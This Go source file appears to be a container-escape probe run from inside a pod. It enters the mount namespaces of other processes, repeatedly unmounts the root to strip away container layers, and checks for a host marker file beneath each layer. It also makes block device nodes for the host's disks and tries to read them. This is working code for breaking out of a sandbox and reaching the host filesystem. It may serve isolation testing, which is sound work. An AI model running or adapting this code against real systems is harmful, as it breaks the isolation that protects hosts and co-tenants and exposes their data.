package main

import (
	"bufio"
	"fmt"
	"os"
	"runtime"
	"slices"
	"strings"
	"unsafe"

	"golang.org/x/sys/unix"
)

// peel attacks the mount namespaces that the app can enter: its own and those of the pod's
// processes. It unmounts what is at "/" and enters the namespace again, whose root is then what was
// below, until there is nothing more. It says of each layer which mounts are there, and whether the
// host's file MARK is below one of them.
func peel(mark string) {
	runtime.LockOSThread() // or another goroutine takes the first thread, whose namespace is "self"
	seen := map[string]bool{}
	entries, err := os.ReadDir("/proc")
	check(err)
	pids := []string{"self"}
	for _, e := range entries {
		if e.Name()[0] >= '1' && e.Name()[0] <= '9' {
			pids = append(pids, e.Name())
		}
	}
	readDisks()
	for _, pid := range pids {
		for _, dir := range []string{"root", "cwd"} {
			if _, err := os.Stat("/proc/" + pid + "/" + dir + mark); err == nil {
				fmt.Printf("HOST: %s is below /proc/%s/%s\n", mark, pid, dir)
			}
		}
		file := "/proc/" + pid + "/ns/mnt"
		ns, err := os.Readlink(file)
		if err != nil || seen[ns] {
			continue // of another user, or with capabilities that the app does not have
		}
		seen[ns] = true
		name := "self"
		if pid != name {
			text, _ := os.ReadFile("/proc/" + pid + "/comm")
			name = strings.TrimSpace(string(text))
		}
		done := make(chan error)
		go func() {
			runtime.LockOSThread() // and ends with it
			done <- peelNamespace(name, file, mark)
		}()
		fmt.Printf("%s: %s\n", name, word(<-done))
	}
	fmt.Println("peeled")
}

// readDisks makes device nodes of the host's disks, where they work, and says which it can read.
func readDisks() {
	dir, err := os.MkdirTemp("/tmp", "disks")
	check(err)
	word := word(unix.Mount("tmpfs", dir, "tmpfs", 0, "")) // /tmp is mounted nodev
	disks, _ := os.ReadDir("/sys/class/block")
	for _, disk := range disks {
		text, _ := os.ReadFile("/sys/class/block/" + disk.Name() + "/dev")
		var major, minor uint32
		if _, err := fmt.Sscanf(string(text), "%d:%d", &major, &minor); err != nil {
			continue
		}
		node := dir + "/" + disk.Name()
		if err := unix.Mknod(node, unix.S_IFBLK|0o600, int(unix.Mkdev(major, minor))); err != nil {
			word += ", " + err.Error()
			break
		}
		f, err := os.Open(node)
		if err == nil {
			if _, err = f.Read(make([]byte, 512)); err == nil {
				fmt.Printf("HOST: read the disk %s\n", disk.Name())
			}
		}
	}
	fmt.Printf("disks: mount: %s\n", word)
	unix.Unmount(dir, unix.MNT_DETACH)
}

func peelNamespace(name, file, mark string) error {
	proc, err := os.Open("/proc")
	if err != nil {
		return err
	}
	ns, err := os.Open(file)
	if err != nil {
		return err
	}
	if err := unix.Unshare(unix.CLONE_FS); err != nil {
		return err
	}
	if name != "self" {
		if err := unix.Setns(int(ns.Fd()), unix.CLONE_NEWNS); err != nil {
			return err
		}
	}
	// What is taken away is that of a copy, so that the pod goes on.
	if err := unix.Unshare(unix.CLONE_NEWNS); err != nil {
		return err
	}
	if err := unix.Mount("", "/", "", unix.MS_REC|unix.MS_PRIVATE, ""); err != nil {
		return err
	}
	copied, err := unix.Openat(int(proc.Fd()), "thread-self/ns/mnt", unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	fmt.Printf("%s: under / are %s\n", name, under())
	for layer := 0; layer < 20; layer++ {
		if err := lookAround(fmt.Sprintf("%s/%d", name, layer), proc, mark); err != nil {
			return err
		}
		if err := unix.Unmount("/", unix.MNT_DETACH); err != nil {
			return err
		}
		if err := unix.Setns(copied, unix.CLONE_NEWNS); err != nil {
			return err
		}
	}
	return nil
}

// lookAround prints the mounts that a path leads to, as PATH(TYPE).
func lookAround(where string, proc *os.File, mark string) error {
	fd, err := unix.Openat(int(proc.Fd()), "thread-self/mountinfo", unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	table := os.NewFile(uintptr(fd), "mountinfo")
	defer table.Close()
	var mounts []string
	for s := bufio.NewScanner(table); s.Scan(); {
		before, after, _ := strings.Cut(s.Text(), " - ")
		at := strings.Fields(before)[4]
		mounts = append(mounts, at+"("+strings.Fields(after)[0]+")")
		if _, err := os.Stat(strings.TrimSuffix(at, "/") + mark); err == nil {
			fmt.Printf("%s: HOST: %s is below %s\n", where, mark, at)
		}
	}
	slices.Sort(mounts)
	fmt.Printf("%s: %s\n", where, strings.Join(mounts, " "))
	return nil
}

// under tells how many mounts the namespace has below the one that is "/" (statmount(2),
// listmount(2): Linux 6.8).
func under() string {
	type request struct {
		size      uint32
		_         uint32
		id, param uint64
	}
	const lsmtRoot, uniqueID, basic, sysStatmount, sysListmount = ^uint64(0), 0x4000, 2, 457, 458
	list := func(id uint64) (int, unix.Errno) {
		r, ids := request{size: 24, id: id}, [4096]uint64{}
		n, _, errno := unix.RawSyscall6(sysListmount, uintptr(unsafe.Pointer(&r)), uintptr(unsafe.Pointer(&ids)),
			uintptr(len(ids)), 0, 0, 0)
		return int(n), errno
	}
	seen, errno := list(lsmtRoot)
	if errno != 0 {
		return errno.Error()
	}
	var st unix.Statx_t
	if err := unix.Statx(unix.AT_FDCWD, "/", 0, uniqueID, &st); err != nil {
		return err.Error()
	}
	id := st.Mnt_id
	for range 20 {
		r := request{size: 24, id: id, param: basic}
		var about [128]uint64
		_, _, errno := unix.RawSyscall6(sysStatmount, uintptr(unsafe.Pointer(&r)), uintptr(unsafe.Pointer(&about)),
			unsafe.Sizeof(about), 0, 0, 0)
		parent := about[6]
		if errno != 0 || parent == id {
			break
		}
		id = parent
	}
	all, errno := list(id)
	if errno != 0 {
		return errno.Error()
	}
	return fmt.Sprintf("%d mounts", all-seen)
}
